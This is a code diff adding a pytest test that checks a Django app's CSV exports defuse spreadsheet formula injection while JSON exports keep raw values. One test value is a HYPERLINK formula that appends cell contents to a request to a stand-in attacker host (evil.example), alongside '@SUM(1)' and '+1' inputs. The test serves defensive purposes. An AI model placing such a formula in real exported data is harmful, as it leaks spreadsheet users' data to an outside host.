@@ -87,3 +87,27 @@ def test_study_exports_stream_through_daphne(daphne_url):
     assert len(pd.read_csv(io.BytesIO(raw))) == 4
     headers, raw = get(f"/api/studies/{data['study'].pk}/results.json")
     assert len(json.loads(raw)["results"]) == 7
+
+
+@pytest.mark.django_db
+def test_csv_cells_that_a_spreadsheet_would_run_are_made_inert_and_json_keeps_them():
+    data = build_study()
+    evil = '=HYPERLINK("http://evil.example/"&A1,"click")'
+    p1a = data["p1a"]
+    p1a.title = evil
+    p1a.save()
+    p1a.participant.code = "@SUM(1)"
+    p1a.participant.save()
+    p1a.condition.name = "+1"
+    p1a.condition.save()
+    owner, pk = api_for(data["owner"]), data["study"].pk
+    results = pd.read_csv(io.BytesIO(body(owner.get(f"/api/studies/{pk}/results.csv"))))
+    row = results[results.analysis == p1a.pk].iloc[0]
+    assert (row.title, row.participant, row.condition) == ("'" + evil, "'@SUM(1)", "'+1")
+    assert (results.valence < 0).any() and results.valence.dtype == "float64"   # numbers stay numbers
+    summary = pd.read_csv(io.BytesIO(body(owner.get(f"/api/studies/{pk}/summary.csv"))))
+    assert "'@SUM(1)" in set(summary.participant) and "'+1" in set(summary.condition)
+    single = body(owner.get(f"/api/analyses/{p1a.pk}/results.csv")).decode()
+    assert evil not in single.replace("'" + evil, "")
+    raw = body(owner.get(f"/api/studies/{pk}/results.json")).decode()
+    assert json.dumps(evil) in raw and json.dumps("@SUM(1)") in raw       # JSON keeps the raw values
